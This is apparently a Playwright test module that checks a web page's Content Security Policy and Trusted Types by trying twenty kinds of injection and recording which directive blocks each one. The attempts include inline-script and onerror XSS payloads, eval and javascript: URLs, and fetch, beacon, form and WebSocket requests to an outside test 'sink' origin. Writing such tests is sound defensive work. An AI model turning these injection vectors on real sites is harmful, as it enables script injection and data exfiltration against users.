import type { Page } from '@playwright/test'

/** The result of an attempt: whether it had an effect, and which directives blocked it. */
export type AttemptResult = {
  name: string
  hit: boolean
  away: boolean
  arrived: number
  directives: string[]
  blocked: boolean
}

type Outside = { origin: string; arrived: readonly string[] }

/** Milliseconds to wait for a refusal, and for an effect after it. */
const refusalMilliseconds = 2_000
const effectMilliseconds = 60
/** Milliseconds to wait for an effect if a refusal is not reported to the page. */
const silentMilliseconds = 400

/**
 * Returns code that runs one attempt in a separate task, because code that a debugger evaluates directly has more
 * permissions. An exception is the expected refusal; the directives show what refused it.
 */
const inPage = (text: string, origin: string, silent: boolean): string => `new Promise((resolve) => {
  const sink = ${JSON.stringify(origin)}
  const directives = []
  let hits = 0
  const end = () => {
    document.removeEventListener('securitypolicyviolation', onViolation)
    resolve({ hit: hits > 0 || 'injected' in globalThis, directives })
  }
  const limit = setTimeout(end, ${silent ? silentMilliseconds : refusalMilliseconds})
  const soon = () => (clearTimeout(limit), setTimeout(end, ${effectMilliseconds}))
  const onViolation = (event) => (directives.push(event.effectiveDirective), soon())
  globalThis.hit = () => ((hits += 1), soon())
  document.addEventListener('securitypolicyviolation', onViolation)
  setTimeout(() => void (async () => { ${text} })().catch(() => {}), 0)
})`

const tryOne = async (
  page: Page,
  outside: Outside,
  { refusedBy, text, ...attempt }: Attempt,
): Promise<AttemptResult> => {
  const url = page.url()
  const before = outside.arrived.length
  const silent = refusedBy.includes('window')
  const seen = await page
    .evaluate<{ hit: boolean; directives: string[] }>(inPage(text, outside.origin, silent))
    // A page that navigated away returns no result.
    .catch(() => ({ hit: true, directives: [] }))
  const away = page.url() !== url
  const arrived = outside.arrived.length - before
  const refused = silent || seen.directives.some((directive) => refusedBy.includes(directive))
  return { ...attempt, ...seen, away, arrived, blocked: !seen.hit && !away && arrived === 0 && refused }
}

/** Tries all injections in a page and returns those that the expected directive did not block. */
export const inject = async (page: Page, outside: Outside, injections: readonly Injection[]) => {
  const results: { name: string; blocked: boolean; attempts: AttemptResult[] }[] = []
  for (const { name, attempts } of injections) {
    const tried: AttemptResult[] = []
    for (const attempt of attempts) tried.push(await tryOne(page, outside, attempt))
    results.push({ name, blocked: tried.every(({ blocked }) => blocked), attempts: tried })
  }
  return results
}

/** Returns whether at least one form of an injection has an effect without protection. */
export const showEffects = async (page: Page, outside: Outside, { attempts }: Injection): Promise<boolean> => {
  for (const attempt of attempts) {
    const { hit, away, arrived } = await tryOne(page, outside, attempt)
    if (hit || away || arrived > 0) return true
  }
  return false
}

/** One way to run foreign code or cause traffic in the page, and what must block it. */
type Attempt = {
  name: string
  /** Directives, one of which must report the refusal; `window` if only the window's protections can block it. */
  refusedBy: readonly string[]
  /** Code for the page. It may use `sink` (an outside origin) and `hit()`, which reports success. */
  text: string
}

/** A kind of injection with all tested forms. */
export type Injection = { name: string; attempts: readonly Attempt[] }

const types = 'require-trusted-types-for'
const script = 'script-src-elem'

const attempt = (name: string, refusedBy: readonly string[], text: string): Attempt => ({ name, refusedBy, text })
const injection = (name: string, ...attempts: readonly Attempt[]): Injection => ({ name, attempts })

const append = (tag: string, set: string): string =>
  `const it = document.createElement('${tag}'); ${set}; document.body.append(it)`

/** Twenty injections that injected text or a malicious dependency could try. Navigations come last. */
export const injections: readonly Injection[] = [
  injection(
    'inline script',
    attempt('script text', [types], append('script', `it.textContent = 'hit()'`)),
    attempt('script child', [types, script], append('script', `it.append('hit()')`)),
  ),
  injection(
    'event handler attribute',
    attempt(
      'onclick',
      [types, 'script-src-attr'],
      `${append('button', `it.setAttribute('onclick', 'hit()')`)}; it.click()`,
    ),
  ),
  injection(
    'javascript: URL',
    attempt('link', [types, script], `${append('a', `it.href = 'javascript:hit()'`)}; it.click()`),
    attempt('location', [types, script], `location.href = 'javascript:hit()'`),
  ),
  injection('eval', attempt('eval', [types, 'script-src'], `eval('hit()')`)),
  injection('new Function', attempt('Function', [types, 'script-src'], `new Function('hit()')()`)),
  injection(
    'setTimeout with text',
    attempt('setTimeout', [types, 'script-src'], `setTimeout('hit()', 1)`),
    attempt(
      'setInterval',
      [types, 'script-src'],
      `const it = setInterval('hit()', 5); setTimeout(() => clearInterval(it), 50)`,
    ),
  ),
  injection(
    'remote script',
    attempt('src', [types], append('script', `it.src = sink + '/script'`)),
    attempt('importScripts', [types], `new Worker(sink + '/worker')`),
  ),
  injection('data: script', attempt('src', [types], append('script', `it.src = 'data:text/javascript,hit()'`))),
  injection(
    'blob: worker',
    attempt('Worker', [types], `new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = hit`),
    attempt(
      'SharedWorker',
      [types],
      `const text = 'onconnect = (event) => event.ports[0].postMessage(1)'
      new SharedWorker(URL.createObjectURL(new Blob([text]))).port.onmessage = hit`,
    ),
  ),
  injection(
    'remote image, font or style',
    attempt('image', ['img-src'], append('img', `it.src = sink + '/image'`)),
    attempt('font', ['font-src'], `new FontFace('Foreign', 'url(' + sink + '/font)').load().catch(() => {})`),
    attempt('style sheet', ['style-src-elem'], append('link', `it.rel = 'stylesheet'; it.href = sink + '/style'`)),
    attempt(
      'style text',
      ['style-src-elem'],
      `${append('style', `it.textContent = 'body { --hit: 1 }'`)}
      if (getComputedStyle(document.body).getPropertyValue('--hit') !== '') hit()`,
    ),
    attempt(
      'style attribute',
      ['style-src-attr'],
      `${append('p', `it.setAttribute('style', '--hit: 1')`)}
      if (getComputedStyle(it).getPropertyValue('--hit') !== '') hit()`,
    ),
    attempt('media', ['media-src'], append('video', `it.src = sink + '/media'`)),
    attempt('prefetch', ['default-src'], append('link', `it.rel = 'prefetch'; it.href = sink + '/prefetch'`)),
    attempt('module preload', [script], append('link', `it.rel = 'modulepreload'; it.href = sink + '/module'`)),
  ),
  injection(
    'fetch, XHR, WebSocket, EventSource, sendBeacon',
    attempt('fetch', ['connect-src'], `await fetch(sink + '/fetch').catch(() => {})`),
    attempt('XHR', ['connect-src'], `const it = new XMLHttpRequest(); it.open('POST', sink + '/xhr'); it.send('x')`),
    attempt('WebSocket', ['connect-src'], `new WebSocket(sink.replace('http', 'ws') + '/socket')`),
    attempt('EventSource', ['connect-src'], `new EventSource(sink + '/events')`),
    attempt('sendBeacon', ['connect-src'], `navigator.sendBeacon(sink + '/beacon', 'x')`),
    attempt('keepalive', ['connect-src'], `await fetch(sink + '/alive', { keepalive: true }).catch(() => {})`),
  ),
  injection(
    'frame',
    attempt('src', ['frame-src'], append('iframe', `it.src = sink + '/frame'`)),
    attempt('data:', ['frame-src'], append('iframe', `it.src = 'data:text/html,<script>parent.hit()</script>'`)),
    attempt('blob:', ['frame-src'], append('iframe', `it.src = URL.createObjectURL(new Blob(['x']))`)),
    attempt('srcdoc', [types], append('iframe', `it.srcdoc = '<script>parent.hit()</script>'`)),
    attempt('our own page', ['frame-src'], append('iframe', `it.src = location.href`)),
  ),
  injection(
    'object or embed',
    attempt('object', [types, 'object-src'], append('object', `it.data = sink + '/object'`)),
    attempt('embed', [types, 'object-src'], append('embed', `it.src = sink + '/embed'`)),
  ),
  injection(
    'form post',
    attempt(
      'form',
      ['form-action'],
      `${append('form', `it.method = 'post'; it.action = sink + '/form'`)}; it.submit()`,
    ),
    attempt('form get', ['form-action'], `${append('form', `it.action = sink + '/form'`)}; it.requestSubmit()`),
  ),
  injection(
    'base',
    attempt(
      'base',
      ['base-uri'],
      `${append('base', `it.href = sink + '/base/'`)}; if (document.baseURI.startsWith(sink)) hit()`,
    ),
  ),
  injection(
    'innerHTML',
    attempt('innerHTML', [types], append('div', `it.innerHTML = '<img src=x onerror=hit()>'`)),
    attempt('outerHTML', [types], `${append('div', '')}; it.outerHTML = '<img src=x onerror=hit()>'`),
    attempt(
      'insertAdjacentHTML',
      [types],
      `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=hit()>')`,
    ),
    attempt('document.write', [types], `document.write('<script>hit()</script>')`),
    attempt('DOMParser', [types], `new DOMParser().parseFromString('<b>x</b>', 'text/html'); hit()`),
    attempt('createContextualFragment', [types], `new Range().createContextualFragment('<b>x</b>'); hit()`),
  ),
  injection(
    'dynamic import',
    attempt('data:', [script], `await import('data:text/javascript,hit()').catch(() => {})`),
    attempt(
      'blob:',
      [script],
      `await import(URL.createObjectURL(new Blob(['hit()'], { type: 'text/javascript' }))).catch(() => {})`,
    ),
    attempt('remote', [script], `await import(sink + '/import').catch(() => {})`),
  ),
  injection(
    'service worker',
    // The script does not exist, but requesting it already counts as a failure.
    attempt(
      'register',
      [types],
      `await navigator.serviceWorker.register('/assets/service.js').catch((error) => {
        if (!error.message.includes('Trusted')) hit()
      })`,
    ),
  ),
  injection(
    'window.open',
    attempt('open', ['window'], `if (window.open(sink + '/open') !== null) hit()`),
    attempt('target', ['window'], `${append('a', `it.href = sink + '/blank'; it.target = '_blank'`)}; it.click()`),
  ),
  injection(
    'meta refresh',
    attempt('meta', ['window'], append('meta', `it.httpEquiv = 'refresh'; it.content = '0;url=' + sink + '/refresh'`)),
    attempt('location', ['window'], `location.href = sink + '/location'`),
    attempt('link', ['window'], `${append('a', `it.href = sink + '/link'`)}; it.click()`),
  ),
]
